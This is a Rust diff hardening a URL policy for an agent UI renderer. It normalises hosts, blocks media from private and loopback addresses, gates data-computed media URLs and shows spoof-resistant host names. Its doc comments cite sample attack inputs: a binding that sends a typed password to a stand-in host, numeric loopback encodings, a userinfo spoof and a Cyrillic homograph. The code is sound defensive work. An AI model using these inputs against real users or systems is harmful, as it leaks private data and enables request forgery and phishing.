@@ -1,7 +1,9 @@
 //! The URL policy ([`UrlPolicy`]) and the types its checks and host hook use.
 
 use std::fmt;
+use std::net::{Ipv4Addr, Ipv6Addr};
 use std::sync::Arc;
+use std::time::Duration;
 
 /// What an agent wants done with a URL.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
@@ -20,7 +22,8 @@ pub struct UrlTarget<'a> {
     pub use_: UrlUse,
     /// The scheme, lower-cased (`https`, `data`...).
     pub scheme: &'a str,
-    /// The host, lower-cased, without user info, port or trailing dot; `None` for schemes
+    /// The host, normalised ([`normalize_host`]: punycode, dotted-quad IPv4, bracketed
+    /// IPv6, lower-case, no trailing dot), without user info or port; `None` for schemes
     /// without one (`data:`).
     pub host: Option<&'a str>,
 }
@@ -44,6 +47,15 @@ pub enum UrlRefusal {
     NoUserActivation,
     /// The host's legacy [`ImagePolicy`] refused the source.
     ImagePolicy,
+    /// A media source on a loopback, private, link-local, unspecified or CGNAT address, or
+    /// a `localhost` name (the normalised host), refused unless the host app called
+    /// [`UrlPolicy::allow_private_media_hosts`].
+    PrivateHost(String),
+    /// A media URL computed from the data model (a binding or a function call, not a
+    /// literal) whose host the host app did not allow with
+    /// [`UrlPolicy::allow_computed_media_hosts`]: typed data must not leave in a URL
+    /// without a gesture. It names no host: a computed host may hold that data.
+    ComputedMedia,
 }
 
 impl fmt::Display for UrlRefusal {
@@ -57,6 +69,14 @@ impl fmt::Display for UrlRefusal {
             Self::Host(h) => write!(f, "the host {h:?} is not allowed"),
             Self::NoUserActivation => write!(f, "opening a URL needs a user gesture"),
             Self::ImagePolicy => write!(f, "the host's image policy refused it"),
+            Self::PrivateHost(h) => write!(
+                f,
+                "the host {h:?} is a local or private address, not allowed for media"
+            ),
+            Self::ComputedMedia => write!(
+                f,
+                "a media URL computed from data may load only from hosts the host app listed"
+            ),
         }
     }
 }
@@ -80,11 +100,36 @@ pub type HostFilter = Arc<dyn Fn(&UrlTarget<'_>) -> bool + Send + Sync>;
 /// control character inside such as `java\0script:`) is refused: there is no base URL to
 /// resolve it against.
 ///
+/// Hosts are normalised before any rule or hook sees them, as the WHATWG host parser does
+/// (the `url` crate): internationalised names become ASCII (punycode, `xn--…`), fullwidth
+/// dots and letters are mapped, the IPv4 number forms (`2130706433`, `127.1`, `0x7f.1`,
+/// octal) become a dotted quad, IPv6 addresses keep their brackets in canonical form, and a
+/// trailing dot is dropped. So a deny-list hook sees `127.0.0.1`, never `2130706433`.
+///
 /// The defaults: `http` and `https` may be opened, after a user gesture; media may load
 /// from `https` and from `data:image/*` (never `data:text/html`, `file:`, `javascript:` or
 /// plain `http`). A host app narrows or widens this with [`UrlPolicy::with_open_schemes`],
 /// [`UrlPolicy::with_media_schemes`] and a per-host hook ([`UrlPolicy::with_host_filter`],
 /// or the allow-list [`UrlPolicy::allow_hosts`]).
+///
+/// Two media rules stop an agent from using the host as a request-forger or a data leak:
+///
+/// - **Local and private addresses.** Media never loads from loopback (`127.0.0.0/8`,
+///   `::1`), private (RFC 1918, `fc00::/7`), link-local (`169.254.0.0/16`, `fe80::/10`),
+///   unspecified, CGNAT (`100.64.0.0/10`) or broadcast addresses, nor from `localhost`
+///   names ([`UrlRefusal::PrivateHost`]); a host app on a LAN turns this off with
+///   [`UrlPolicy::allow_private_media_hosts`]. `file:` sources (off by default) are not
+///   affected.
+/// - **Computed media.** A media URL that comes from a binding or a function call (an
+///   `Image.url` of `{"call": "formatString", "args": {"value":
+///   "https://x.example/p.png?k=${/password}"}}`) is loaded without any gesture, so it
+///   could carry what the user types to a third party. Such URLs load only from the hosts
+///   listed with [`UrlPolicy::allow_computed_media_hosts`] (none by default:
+///   [`UrlRefusal::ComputedMedia`]; computed `data:` images, which fetch nothing, pass).
+///   Even from an allowed host a computed URL is fetched only once it has stayed the same
+///   for [`UrlPolicy::with_computed_media_settle`] (1 s by default), so typing into a
+///   bound field does not send one request per keystroke. Literal URLs keep the rules
+///   above.
 ///
 /// ```
 /// use egui_a2ui::{UrlPolicy, UrlRefusal, UrlUse};
@@ -109,7 +154,14 @@ pub struct UrlPolicy {
     require_user_activation: bool,
     host_filter: Option<HostFilter>,
     image_policy: Option<Arc<dyn ImagePolicy>>,
+    allow_private_media: bool,
+    computed_media_hosts: Arc<[String]>,
+    computed_media_settle: Duration,
 }
+
+/// How long a computed media URL must stay the same before it is fetched (the default of
+/// [`UrlPolicy::with_computed_media_settle`]).
+pub const DEFAULT_COMPUTED_MEDIA_SETTLE: Duration = Duration::from_secs(1);
 
 /// The schemes that may be opened by default (the implementation [guide]'s `openUrl` rule).
 ///
@@ -136,6 +188,9 @@ impl Default for UrlPolicy {
             require_user_activation: true,
             host_filter: None,
             image_policy: None,
+            allow_private_media: false,
+            computed_media_hosts: Arc::from(Vec::new()),
+            computed_media_settle: DEFAULT_COMPUTED_MEDIA_SETTLE,
         }
     }
 }
@@ -148,6 +203,9 @@ impl fmt::Debug for UrlPolicy {
             .field("require_user_activation", &self.require_user_activation)
             .field("host_filter", &self.host_filter.is_some())
             .field("image_policy", &self.image_policy.is_some())
+            .field("allow_private_media", &self.allow_private_media)
+            .field("computed_media_hosts", &self.computed_media_hosts)
+            .field("computed_media_settle", &self.computed_media_settle)
             .finish()
     }
 }
@@ -157,7 +215,8 @@ impl fmt::Debug for UrlPolicy {
 pub struct UrlParts {
     /// The scheme, lower-cased.
     pub scheme: String,
-    /// The host (see [`UrlTarget::host`]); `None` for a scheme without `//` authority.
+    /// The host, normalised (see [`normalize_host`]); `None` for a scheme without `//`
+    /// authority.
     pub host: Option<String>,
     /// For `data:` URLs, the media type, lower-cased (`image/png`).
     pub data_type: Option<String>,
@@ -192,24 +251,174 @@ fn clean_head(url: &str) -> String {
         .collect()
 }
 
-fn percent_decode(s: &str) -> String {
-    let b = s.as_bytes();
-    let mut out = Vec::with_capacity(b.len());
-    let mut i = 0;
-    while let Some(&c) = b.get(i) {
-        if c == b'%'
-            && let Some(hex) = b.get(i + 1..i + 3)
-            && let Ok(hex) = std::str::from_utf8(hex)
-            && let Ok(v) = u8::from_str_radix(hex, 16)
-        {
-            out.push(v);
-            i += 3;
-            continue;
-        }
-        out.push(c);
-        i += 1;
+/// A host as the WHATWG host parser reads it (the `url` crate): percent-decoded,
+/// internationalised names to ASCII (punycode, fullwidth dots and letters mapped),
+/// the IPv4 number forms (`2130706433`, `127.1`, `0x7f.1`, `0177.0.0.1`) to a dotted quad,
+/// IPv6 in brackets in canonical form (`[::1]`); lower-case, without a trailing dot.
+/// Every rule and the host app's hook see hosts in this form.
+///
+/// ```
+/// use egui_a2ui::normalize_host;
+///
+/// assert_eq!(normalize_host("2130706433").as_deref(), Ok("127.0.0.1"));
+/// assert_eq!(normalize_host("0x7f.1").as_deref(), Ok("127.0.0.1"));
+/// assert_eq!(normalize_host("attacker\u{ff0e}example").as_deref(), Ok("attacker.example"));
+/// assert_eq!(normalize_host("B\u{fc}cher.Example.").as_deref(), Ok("xn--bcher-kva.example"));
+/// ```
+pub fn normalize_host(raw: &str) -> Result<String, UrlRefusal> {
+    let host = url::Host::parse(raw).map_err(|_| UrlRefusal::BadHost)?;
+    let host = match host {
+        url::Host::Domain(d) => d.trim_end_matches('.').to_ascii_lowercase(),
+        url::Host::Ipv4(a) => a.to_string(),
+        url::Host::Ipv6(a) => format!("[{a}]"),
+    };
+    if host.is_empty() {
+        return Err(UrlRefusal::BadHost);
     }
-    String::from_utf8_lossy(&out).into_owned()
+    Ok(host)
+}
+
+/// Whether an IPv4 address is loopback, private (RFC 1918), link-local, unspecified
+/// (`0.0.0.0/8`), CGNAT (`100.64.0.0/10`) or broadcast.
+fn private_v4(a: Ipv4Addr) -> bool {
+    let [b0, b1, ..] = a.octets();
+    a.is_loopback()
+        || a.is_private()
+        || a.is_link_local()
+        || a.is_broadcast()
+        || b0 == 0
+        || (b0 == 100 && (64..128).contains(&b1))
+}
+
+/// Whether an IPv6 address is loopback, unspecified, unique-local (`fc00::/7`),
+/// link-local (`fe80::/10`), site-local (`fec0::/10`), or embeds a private IPv4 address.
+fn private_v6(a: Ipv6Addr) -> bool {
+    let s0 = a.segments()[0];
+    a.is_loopback()
+        || a.is_unspecified()
+        || (s0 & 0xfe00) == 0xfc00
+        || (s0 & 0xffc0) == 0xfe80
+        || (s0 & 0xffc0) == 0xfec0
+        || a.to_ipv4().is_some_and(private_v4)
+}
+
+/// Whether a normalised host ([`normalize_host`]) is a local or private address: loopback,
+/// private, link-local, unspecified, CGNAT or broadcast, or a `localhost` name. Media from
+/// such hosts is refused unless the host app allowed it
+/// ([`UrlPolicy::allow_private_media_hosts`]).
+pub fn is_private_host(host: &str) -> bool {
+    if let Some(v6) = host.strip_prefix('[').and_then(|h| h.strip_suffix(']')) {
+        return v6.parse::<Ipv6Addr>().is_ok_and(private_v6);
+    }
+    if let Ok(v4) = host.parse::<Ipv4Addr>() {
+        return private_v4(v4);
+    }
+    host == "localhost" || host.ends_with(".localhost")
+}
+
+/// Whether `host` is one of `list` or a subdomain of one (both normalised).
+fn host_listed(host: &str, list: &[String]) -> bool {
+    list.iter().any(|a| {
+        host == a
+            || host
+                .strip_suffix(a.as_str())
+                .is_some_and(|sub| sub.ends_with('.'))
+    })
+}
+
+/// An allow-list entry in the form hosts are compared in (an entry that is no valid host
+/// is kept lower-cased, and then matches nothing real).
+fn normalize_entry(h: &str) -> String {
+    normalize_host(h).unwrap_or_else(|_| h.trim_end_matches('.').to_ascii_lowercase())
+}
+
+/// The scripts a host label's letters are told apart by in [`display_host`]. A coarse
+/// split by Unicode block: enough to see a label mixing Latin and Cyrillic letters.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Script {
+    Latin,
+    Greek,
+    Cyrillic,
+    Armenian,
+    Hebrew,
+    Arabic,
+    Indic,
+    Thai,
+    Georgian,
+    Hangul,
+    /// Han, Hiragana and Katakana: Japanese mixes them.
+    Cjk,
+    Other,
+}
+
+/// The script of a letter, `None` for digits, hyphens and marks common to all.
+fn script_of(c: char) -> Option<Script> {
+    let u = u32::from(c);
+    Some(match u {
+        0x30..=0x39 | 0x2d | 0x300..=0x36f | 0x30fc => return None,
+        0x41..=0x5a | 0x61..=0x7a | 0xc0..=0x24f | 0x1e00..=0x1eff => Script::Latin,
+        0x370..=0x3ff | 0x1f00..=0x1fff => Script::Greek,
+        0x400..=0x52f | 0x2de0..=0x2dff | 0xa640..=0xa69f => Script::Cyrillic,
+        0x530..=0x58f => Script::Armenian,
+        0x590..=0x5ff => Script::Hebrew,
+        0x600..=0x6ff | 0x750..=0x77f | 0x8a0..=0x8ff => Script::Arabic,
+        0x900..=0xdff => Script::Indic,
+        0xe00..=0xe7f => Script::Thai,
+        0x10a0..=0x10ff => Script::Georgian,
+        0x1100..=0x11ff | 0xac00..=0xd7af => Script::Hangul,
+        0x3040..=0x30ff | 0x3400..=0x4dbf | 0x4e00..=0x9fff => Script::Cjk,
+        _ => Script::Other,
+    })
+}
+
+/// Whether a Unicode label may be shown as it is: its letters are all of one script, and
+/// that script is not one whose letters pass for Latin ones (Greek, Cyrillic, Armenian:
+/// whole-script look-alikes such as `аррӏе`). Anything else is shown as punycode.
+fn label_shows_as_unicode(label: &str) -> bool {
+    let mut seen = None;
+    for c in label.chars() {
+        match (script_of(c), seen) {
+            (None, _) => {}
+            (Some(Script::Other), _) => return false,
+            (Some(s), None) => seen = Some(s),
+            (Some(s), Some(first)) if s != first => return false,
+            _ => {}
+        }
+    }
+    !matches!(
+        seen,
+        Some(Script::Greek | Script::Cyrillic | Script::Armenian)
+    )
+}
+
+/// The host of a URL as it should be shown to the user (a media card's source line, a
+/// link's hover text): the host the policy parsed and would load or open, so
+/// `https://attacker.example\@bank.com/v.mp4` shows `attacker.example`. An
+/// internationalised name is shown in Unicode only when each label is in one script that
+/// does not imitate Latin; otherwise (mixed scripts, Cyrillic or Greek look-alikes) as
+/// punycode (`xn--…`). `None` for a URL without a host (`data:`) or one the policy cannot
+/// read.
+///
+/// ```
+/// use egui_a2ui::display_host;
+///
+/// assert_eq!(display_host("https://attacker.example\\@bank.com/v.mp4").as_deref(), Some("attacker.example"));
+/// assert_eq!(display_host("https://b\u{fc}cher.example/").as_deref(), Some("b\u{fc}cher.example"));
+/// // A Cyrillic `а` among Latin letters: shown as punycode.
+/// assert_eq!(display_host("https://\u{430}pple.com/").as_deref(), Some("xn--pple-43d.com"));
+/// assert_eq!(display_host("data:image/png;base64,AA"), None);
+/// ```
+pub fn display_host(url: &str) -> Option<String> {
+    let host = parse(url).ok()?.host?;
+    if !host.split('.').any(|l| l.starts_with("xn--")) {
+        return Some(host);
+    }
+    let (unicode, result) = idna::domain_to_unicode(&host);
+    if result.is_err() {
+        return Some(host);
+    }
+    let shown = unicode.split('.').all(label_shows_as_unicode);
+    Some(if shown { unicode } else { host })
 }
 
 /// Read the scheme, host and `data:` type of a URL.
@@ -250,13 +459,7 @@ pub fn parse(url: &str) -> Result<UrlParts, UrlRefusal> {
         } else {
             host_port.split(':').next().unwrap_or_default().to_owned()
         };
-        let host = percent_decode(&host)
-            .trim_end_matches('.')
-            .to_ascii_lowercase();
-        if host.is_empty() || host.chars().any(|c| c <= ' ' || c == '%') {
-            return Err(UrlRefusal::BadHost);
-        }
-        parts.host = Some(host);
+        parts.host = Some(normalize_host(&host)?);
     }
     Ok(parts)
 }
@@ -309,20 +512,80 @@ impl UrlPolicy {
 
     /// An allow-list of hosts: a URL with a host passes only when its host is one of these
     /// or a subdomain of one. URLs without a host (`data:` images) are not affected.
+    /// The entries are normalised as hosts are ([`normalize_host`]): `bücher.example`
+    /// matches the punycode host a URL naming it has.
     pub fn allow_hosts<S: AsRef<str>>(self, hosts: impl IntoIterator<Item = S>) -> Self {
         let hosts: Vec<String> = hosts
             .into_iter()
-            .map(|h| h.as_ref().trim_end_matches('.').to_ascii_lowercase())
+            .map(|h| normalize_entry(h.as_ref()))
             .collect();
-        self.with_host_filter(move |t| {
-            t.host.is_none_or(|h| {
-                hosts.iter().any(|a| {
-                    h == a
-                        || h.strip_suffix(a.as_str())
-                            .is_some_and(|sub| sub.ends_with('.'))
-                })
-            })
-        })
+        self.with_host_filter(move |t| t.host.is_none_or(|h| host_listed(h, &hosts)))
+    }
+
+    /// Let media load from loopback, private, link-local, unspecified and CGNAT addresses
+    /// and `localhost` names (refused by default, [`UrlRefusal::PrivateHost`]): for a host
+    /// app whose agents legitimately show images from its LAN.
+    pub fn allow_private_media_hosts(mut self, allow: bool) -> Self {
+        self.allow_private_media = allow;
+        self
+    }
+
+    /// The hosts (and their subdomains) that media URLs computed from the data model may
+    /// load from: an `Image.url`, `Video.posterUrl`, `Video.url` or `AudioPlayer.url` that
+    /// is a binding or a function call rather than a literal. None by default, so such a
+    /// URL is refused ([`UrlRefusal::ComputedMedia`]) unless it is a `data:` URI (which
+    /// fetches nothing). Replaces any earlier list. The other rules still apply. See
+    /// [`UrlPolicy`] for why, and [`UrlPolicy::with_computed_media_settle`].
+    pub fn allow_computed_media_hosts<S: AsRef<str>>(
+        mut self,
+        hosts: impl IntoIterator<Item = S>,
+    ) -> Self {
+        self.computed_media_hosts = hosts
+            .into_iter()
+            .map(|h| normalize_entry(h.as_ref()))
+            .collect();
+        self
+    }
+
+    /// How long a computed media URL (see [`UrlPolicy::allow_computed_media_hosts`]) must
+    /// stay the same, in the frame clock, before it is fetched (1 s by default): while the
+    /// user types into a field the URL is built from, nothing is requested; once typing
+    /// pauses, one request is. [`Duration::ZERO`] fetches every change at once.
+    pub fn with_computed_media_settle(mut self, settle: Duration) -> Self {
+        self.computed_media_settle = settle;
+        self
+    }
+
+    /// The settle time of computed media URLs ([`UrlPolicy::with_computed_media_settle`]).
+    pub fn computed_media_settle(&self) -> Duration {
+        self.computed_media_settle
+    }
+
+    /// [`UrlPolicy::check`] for a media URL computed from the data model: the media rules,
+    /// then the host must be one allowed with [`UrlPolicy::allow_computed_media_hosts`]
+    /// (`data:` URIs pass).
+    pub fn check_computed_media(&self, url: &str) -> Result<(), UrlRefusal> {
+        self.check(url, UrlUse::Media, false)?;
+        self.computed_rule(url)
+    }
+
+    /// [`UrlPolicy::check_playable`] for a playable source computed from the data model
+    /// (see [`UrlPolicy::check_computed_media`]).
+    #[cfg(feature = "media")]
+    pub fn check_computed_playable(&self, url: &str) -> Result<(), UrlRefusal> {
+        self.check_playable(url)?;
+        self.computed_rule(url)
+    }
+
+    fn computed_rule(&self, url: &str) -> Result<(), UrlRefusal> {
+        let parts = parse(url)?;
+        if parts.scheme == "data" {
+            return Ok(());
+        }
+        match parts.host {
+            Some(h) if host_listed(&h, &self.computed_media_hosts) => Ok(()),
+            _ => Err(UrlRefusal::ComputedMedia),
+        }
     }
 
     /// Migration from the former `RendererOptions::image_policy`: media sources are decided
@@ -344,6 +607,10 @@ impl UrlPolicy {
 
     /// Check a URL for a use. `user_activated`: the request follows a user gesture (a
     /// click, a key press, an assistive-technology action) in this frame.
+    ///
+    /// This is also the check an http loader applies to each redirect target
+    /// (`check(location, UrlUse::Media, false)`): the host is normalised and local or
+    /// private addresses are refused the same way.
     pub fn check(&self, url: &str, use_: UrlUse, user_activated: bool) -> Result<(), UrlRefusal> {
         self.check_with(url, use_, user_activated, |t| t.starts_with("image/"))
     }
@@ -382,6 +649,14 @@ impl UrlPolicy {
             if matches!(parts.scheme.as_str(), "http" | "https") && parts.host.is_none() {
                 return Err(UrlRefusal::BadHost);
             }
+        }
+        if use_ == UrlUse::Media
+            && !self.allow_private_media
+            && parts.scheme != "file"
+            && let Some(host) = parts.host.as_deref()
+            && is_private_host(host)
+        {
+            return Err(UrlRefusal::PrivateHost(host.to_owned()));
         }
         if let Some(filter) = &self.host_filter {
             let target = UrlTarget {
